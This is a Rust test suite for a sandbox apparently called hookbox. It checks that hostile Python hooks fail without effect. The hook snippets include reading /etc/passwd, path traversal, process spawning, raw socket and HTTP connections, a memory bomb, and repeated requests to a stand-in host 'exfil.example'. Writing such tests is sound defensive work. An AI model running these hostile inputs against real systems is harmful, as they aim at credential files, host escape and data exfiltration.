//! Hostile hooks: each tries to reach something of the host and must fail
//! without effect, while hookbox keeps running.

use hookbox::record::RunStatus;
use hookbox::sandbox::limits::Limits;

use crate::support::{SESSION_CLOSE, TestHook, run_source};

#[tokio::test]
async fn cannot_read_etc_passwd() {
    let outcome = run_source(
        "try:\n    print(open('/etc/passwd').read())\nexcept OSError as e:\n    print('denied', type(e).__name__)\n",
    )
    .await;
    assert!(outcome.stdout.starts_with("denied"), "{outcome:?}");
    assert!(!outcome.stdout.contains("root:"));
}

#[tokio::test]
async fn an_uncaught_file_error_says_what_the_sandbox_hides() {
    let outside = run_source("open('/etc/passwd').read()\n").await;
    assert_eq!(outside.status, RunStatus::Failed, "{outside:?}");
    assert!(
        outside.stderr.contains("FileNotFoundError")
            && outside
                .stderr
                .contains("hookbox: /etc/passwd is outside what the hook can see"),
        "{}",
        outside.stderr
    );
    let read_only = run_source("open('/hook/dropped.txt', 'w').write('x')\n").await;
    assert_eq!(read_only.status, RunStatus::Failed, "{read_only:?}");
    assert!(
        read_only
            .stderr
            .contains("hookbox: /hook/dropped.txt is read-only in the sandbox"),
        "{}",
        read_only.stderr
    );
    let caught = run_source(
        "try:\n    open('/etc/passwd')\nexcept OSError as e:\n    print(e.__notes__ if hasattr(e, '__notes__') else 'no notes')\n",
    )
    .await;
    assert_eq!(
        caught.stdout, "no notes\n",
        "a caught error is the hook's own business"
    );
}

#[tokio::test]
async fn cannot_climb_out_of_the_hook_directory() {
    let outcome = run_source(
        "import os\n\
         for path in ['../etc/passwd', '/hook/../../etc/passwd', '/hook/../etc/hostname']:\n\
         \x20   try:\n\
         \x20       open(path).read()\n\
         \x20       print('READ', path)\n\
         \x20   except OSError:\n\
         \x20       pass\n\
         print('done')\n",
    )
    .await;
    assert_eq!(outcome.stdout, "done\n", "{outcome:?}");
}

#[tokio::test]
async fn listing_the_root_shows_nothing_of_the_host() {
    let outcome = run_source(
        "import os\n\
         try:\n    print(sorted(os.listdir('/')))\nexcept OSError as e:\n    print('denied', type(e).__name__)\n",
    )
    .await;
    assert_eq!(outcome.status, RunStatus::Ok, "{outcome:?}");
    for host_entry in ["etc", "usr", "root", "proc", "home", "tmp", "work"] {
        assert!(
            !outcome.stdout.contains(&format!("'{host_entry}'")),
            "host entry {host_entry} visible: {}",
            outcome.stdout
        );
    }
}

#[tokio::test]
async fn cannot_write_into_the_hook_directory() {
    let hook = TestHook::new(
        "import os\n\
         for attempt in [lambda: open('/hook/dropped.txt', 'w').write('x'),\n\
         \x20               lambda: os.remove('/hook/session-close.runbook.py'),\n\
         \x20               lambda: os.mkdir('/hook/newdir'),\n\
         \x20               lambda: open('/python/json/__init__.py', 'a').write('x')]:\n\
         \x20   try:\n\
         \x20       attempt()\n\
         \x20       print('WROTE')\n\
         \x20   except OSError as e:\n\
         \x20       print('denied')\n",
    );
    let outcome = hook.run(&Limits::default()).await;
    assert_eq!(
        outcome.stdout, "denied\ndenied\ndenied\ndenied\n",
        "{outcome:?}"
    );
    assert!(!hook.dir.path().join("dropped.txt").exists());
    assert!(!hook.dir.path().join("newdir").exists());
    assert!(hook.path.exists());
}

#[tokio::test]
async fn sees_no_host_environment_variables() {
    // The test process has PATH, HOME, CARGO_* and more; the hook sees none.
    let outcome = run_source("import os\nprint(sorted(os.environ))\n").await;
    assert_eq!(
        outcome.stdout, "['HOOP_RUNBOOK_HOOK_PAYLOAD']\n",
        "{outcome:?}"
    );
}

#[tokio::test]
async fn cannot_spawn_a_process() {
    let marker = tempfile::tempdir().unwrap();
    let marker_file = marker.path().join("spawned");
    let source = format!(
        "import os, subprocess\n\
         attempts = [\n\
         \x20   lambda: subprocess.run(['touch', {marker:?}]),\n\
         \x20   lambda: os.system('touch {marker}'),\n\
         \x20   lambda: os.posix_spawn('/usr/bin/touch', ['touch', {marker:?}], {{}}),\n\
         \x20   lambda: os.execv('/usr/bin/touch', ['touch', {marker:?}]),\n\
         \x20   lambda: os.fork(),\n\
         ]\n\
         for attempt in attempts:\n\
         \x20   try:\n\
         \x20       attempt()\n\
         \x20       print('SPAWNED')\n\
         \x20   except Exception as e:\n\
         \x20       print('denied', type(e).__name__)\n",
        marker = marker_file.display().to_string()
    );
    let outcome = run_source(&source).await;
    assert_eq!(outcome.status, RunStatus::Ok, "{outcome:?}");
    assert!(!outcome.stdout.contains("SPAWNED"), "{}", outcome.stdout);
    assert_eq!(outcome.stdout.lines().count(), 5, "{}", outcome.stdout);
    assert!(!marker_file.exists());
}

#[tokio::test]
async fn raw_sockets_are_closed() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let source = format!(
        "import socket\n\
         try:\n\
         \x20   socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leak')\n\
         \x20   print('CONNECTED')\n\
         except OSError as e:\n\
         \x20   print('denied', type(e).__name__)\n"
    );
    let outcome = run_source(&source).await;
    assert!(outcome.stdout.starts_with("denied"), "{outcome:?}");
    assert!(
        listener.accept().is_err(),
        "a connection reached the listener"
    );
}

#[tokio::test]
async fn outgoing_http_is_denied_and_recorded() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let source = format!(
        "import asyncio, poll_loop\n\
         from wit_world.imports import types\n\
         request = types.OutgoingRequest(types.Fields())\n\
         request.set_scheme(types.Scheme_Http())\n\
         request.set_authority('127.0.0.1:{port}')\n\
         request.set_path_with_query('/events')\n\
         try:\n\
         \x20   poll_loop.PollLoop().run_until_complete(poll_loop.send(request))\n\
         \x20   print('SENT')\n\
         except Exception as e:\n\
         \x20   print('denied', e)\n"
    );
    let outcome = run_source(&source).await;
    assert!(outcome.stdout.starts_with("denied"), "{outcome:?}");
    assert!(
        outcome
            .stderr
            .contains("hookbox: egress denied: GET http://127.0.0.1:"),
        "{}",
        outcome.stderr
    );
    assert_eq!(outcome.egress.len(), 1);
    assert!(!outcome.egress[0].allowed);
    assert!(
        listener.accept().is_err(),
        "a connection reached the listener"
    );
}

#[tokio::test]
async fn a_hostile_hook_does_not_disturb_the_next_one() {
    let bomb = TestHook::new("x = []\nwhile True:\n    x.append(' ' * 1_000_000)\n");
    let limits = Limits {
        memory_bytes: 64 * 1024 * 1024,
        ..Limits::default()
    };
    assert_eq!(bomb.run(&limits).await.status, RunStatus::MemoryExceeded);
    let fine = TestHook::new("print('still fine')\n");
    let outcome = fine.run_with(SESSION_CLOSE, &[], &Limits::default()).await;
    assert_eq!(outcome.stdout, "still fine\n");
}

#[tokio::test]
async fn endless_refused_requests_do_not_grow_the_record_without_bound() {
    let outcome = run_source(
        "import hookbox\n\
         for i in range(1500):\n\
         \x20   try:\n\
         \x20       hookbox.http.get(f'https://exfil.example/{i}')\n\
         \x20   except hookbox.http.EgressDenied:\n\
         \x20       pass\n\
         print('done')\n",
    )
    .await;
    assert_eq!(outcome.stdout, "done\n", "{:?}", outcome.error);
    assert_eq!(outcome.egress.len(), 1000);
    assert_eq!(outcome.egress_unrecorded, 500);
    assert!(outcome.stderr_truncated);
}
